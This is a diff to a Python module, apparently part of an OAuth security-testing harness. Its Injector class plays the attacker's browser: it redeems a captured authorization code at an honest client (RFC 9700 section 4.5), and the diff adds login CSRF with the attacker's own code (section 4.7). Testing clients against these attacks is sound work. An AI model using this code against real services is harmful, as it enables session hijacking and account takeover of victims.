@@ -1,40 +1,63 @@
-"""Injection: the attacker's own browser presents the victim's code to the honest client.
+"""The attacker's own browser at the honest client: injection, and logins of its own.
 
-RFC 9700 section 4.5. The client redeems the code for the attacker, with its own secret, and the
-attacker's session shows the victim's data.
+RFC 9700 section 4.5. The client redeems a stolen code for the attacker, with its own secret, and
+the attacker's session shows the victim's data. Or the other way round (section 4.7): the attacker's
+own code is meant for the victim's session.
 """
 
+from dataclasses import dataclass, field
+from typing import Any, Protocol
 from urllib.parse import urlencode
-
-from playwright.async_api import Page
 
 from attacker.loot import LootBag, LootItem
 from attacker.vantage import Leg
 
 
+class Browser(Protocol):
+    """What the attacker sits in front of."""
+
+    async def open(self, url: str) -> Any:
+        """Go to an address."""
+        ...
+
+
+@dataclass(frozen=True)
+class Account:
+    """The attacker's own account at the provider: it is a customer like any other."""
+
+    username: str
+    password: str = field(repr=False)
+
+
 class Injector:
     """The attacker's browser at the honest client. ``client`` is the client's public address."""
 
-    def __init__(self, page: Page, loot: LootBag, client: str) -> None:
-        self._page = page
+    def __init__(self, browser: Browser, loot: LootBag, client: str) -> None:
+        self.browser = browser
         self._loot = loot
         self._client = client
 
     async def start_own_login(self) -> LootItem:
         """Begin a login in the attacker's own session; the ``state`` that the client gave it."""
-        await self._page.goto(self._client)
+        await self.browser.open(self._client)
         return self._loot.need("state", Leg.OWN)
 
     async def inject(self, code: LootItem, state: LootItem) -> None:
         """Answer the client as the provider would, with a captured code."""
-        answer = {"code": code.value, "state": state.value}
+        await self.browser.open(self.answer_with(code, state))
+
+    def answer_with(self, code: LootItem, state: LootItem | None) -> str:
+        """The redirect that brings a code to the client, as the provider would write it."""
+        answer = {"code": code.value}
+        if state is not None:
+            answer["state"] = state.value
         if issuer := self._loot.find("iss", code.leg):
             answer["iss"] = issuer.value
-        await self._page.goto(f"{self._redirect_uri}?{urlencode(answer)}")
+        return f"{self._redirect_uri}?{urlencode(answer)}"
 
     async def look_at_session(self) -> None:
         """Ask the client who is signed in here."""
-        await self._page.goto(f"{self._redirect_uri}/me")
+        await self.browser.open(f"{self._redirect_uri}/me")
 
     @property
     def _redirect_uri(self) -> str:
